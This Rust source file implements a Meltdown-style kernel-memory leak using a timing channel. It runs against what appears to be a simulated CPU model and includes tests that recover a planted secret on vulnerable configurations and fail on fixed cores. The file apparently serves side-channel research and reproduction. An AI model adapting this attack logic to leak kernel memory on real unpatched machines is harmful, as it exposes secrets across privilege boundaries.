//! TET-Meltdown (§4.3.1): Meltdown with the TET channel instead of
//! Flush+Reload.
//!
//! Phase 1 triggers the transient execution and the in-window Jcc when
//! the transiently obtained secret equals the test value; phase 2 records
//! the execution time. The argmax of ToTE over the 0..=255 sweep is the
//! secret byte (ToTE is *longer* on the match).

use tet_uarch::Machine;

use crate::analysis::{leak_bytes, vote_majority, ArgmaxDecoder, Polarity};
use crate::attacks::{LeakReport, LeakedByte};
use crate::batch::ProbeMemo;
use crate::gadget::{TetGadget, TetGadgetSpec};

/// The TET-Meltdown attack.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct TetMeltdown {
    /// Argmax batches per byte.
    pub batches: u32,
    /// Warm-up probes per byte (train the BTB, fill the kernel TLB entry
    /// and pull the secret line in).
    pub warmup: u32,
}

impl Default for TetMeltdown {
    fn default() -> Self {
        TetMeltdown {
            batches: 3,
            warmup: 4,
        }
    }
}

impl TetMeltdown {
    /// Leaks the kernel byte at `addr`.
    pub fn leak_byte(&self, machine: &mut Machine, addr: u64) -> LeakedByte {
        let cfg = machine.config().clone();
        let gadget = TetGadget::build(TetGadgetSpec::meltdown(addr, &cfg));
        for _ in 0..self.warmup {
            gadget.measure(machine, 0);
        }
        // The hint must be read *after* warm-up: forwarding predicts
        // the secret byte only once its line is cache resident.
        let mut memo = ProbeMemo::new(machine, gadget.match_hint(machine));
        let (out, cycles) = ArgmaxDecoder::new(self.batches, Polarity::MaxWins).decode_memoized(
            &mut memo,
            machine,
            |_| {},
            |m, test| gadget.measure_detailed(m, test),
        );
        LeakedByte {
            value: out.value,
            votes: out.votes,
            cycles,
        }
    }

    /// Leaks one byte with early termination: after each batch, if one
    /// candidate already won `confidence` batches, decoding stops.
    /// Matches how tuned PoCs trade batches for throughput without
    /// giving up the majority guarantee.
    pub fn leak_byte_adaptive(
        &self,
        machine: &mut Machine,
        addr: u64,
        confidence: u32,
    ) -> LeakedByte {
        let cfg = machine.config().clone();
        let gadget = TetGadget::build(TetGadgetSpec::meltdown(addr, &cfg));
        for _ in 0..self.warmup {
            gadget.measure(machine, 0);
        }
        let mut memo = ProbeMemo::new(machine, gadget.match_hint(machine));
        let decoder = ArgmaxDecoder::new(1, Polarity::MaxWins);
        let mut cycles = 0u64;
        let mut votes = vec![0u32; 256];
        for _batch in 0..self.batches.max(confidence) {
            let (out, c) = decoder.decode_memoized(
                &mut memo,
                machine,
                |_| {},
                |m, test| gadget.measure_detailed(m, test),
            );
            cycles += c;
            votes[out.value as usize] += 1;
            if votes[out.value as usize] >= confidence {
                break;
            }
        }
        LeakedByte {
            value: vote_majority(&votes),
            votes,
            cycles,
        }
    }

    /// Leaks `len` consecutive kernel bytes starting at `addr`.
    pub fn leak(&self, machine: &mut Machine, addr: u64, len: usize) -> LeakReport {
        leak_bytes(len, machine.config().freq_ghz, |i| {
            self.leak_byte(machine, addr + i)
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::scenario::{Scenario, ScenarioOptions};
    use tet_uarch::CpuConfig;

    #[test]
    fn leaks_the_kernel_secret_on_kaby_lake() {
        let mut sc = Scenario::new(CpuConfig::kaby_lake_i7_7700(), &ScenarioOptions::default());
        let report = TetMeltdown::default().leak(&mut sc.machine, sc.kernel_secret_va, 8);
        assert_eq!(report.recovered, b"WHISPER!");
        assert!(report.succeeded(b"WHISPER!"));
        assert!(report.bytes_per_sec > 0.0);
    }

    #[test]
    fn fails_on_meltdown_resistant_core() {
        let mut sc = Scenario::new(
            CpuConfig::comet_lake_i9_10980xe(),
            &ScenarioOptions::default(),
        );
        let report = TetMeltdown::default().leak(&mut sc.machine, sc.kernel_secret_va, 8);
        assert!(
            !report.succeeded(b"WHISPER!"),
            "fixed silicon must not leak, got {:?}",
            report.recovered
        );
    }

    #[test]
    fn fails_on_zen3() {
        let mut sc = Scenario::new(CpuConfig::zen3_ryzen5_5600g(), &ScenarioOptions::default());
        let report = TetMeltdown::default().leak(&mut sc.machine, sc.kernel_secret_va, 4);
        assert!(!report.succeeded(b"WHIS"));
    }

    #[test]
    fn adaptive_leak_matches_and_is_cheaper_when_clean() {
        let mut sc = Scenario::new(CpuConfig::kaby_lake_i7_7700(), &ScenarioOptions::default());
        let full = TetMeltdown::default().leak_byte(&mut sc.machine, sc.kernel_secret_va);
        let adaptive =
            TetMeltdown::default().leak_byte_adaptive(&mut sc.machine, sc.kernel_secret_va, 2);
        assert_eq!(adaptive.value, full.value);
        assert!(
            adaptive.cycles < full.cycles,
            "early termination must save probes ({} vs {})",
            adaptive.cycles,
            full.cycles
        );
    }

    #[test]
    fn votes_concentrate_on_the_secret() {
        let mut sc = Scenario::new(CpuConfig::skylake_i7_6700(), &ScenarioOptions::default());
        let b = TetMeltdown::default().leak_byte(&mut sc.machine, sc.kernel_secret_va);
        assert_eq!(b.value, b'W');
        assert_eq!(b.votes[b'W' as usize], 3, "all batches should agree");
    }
}
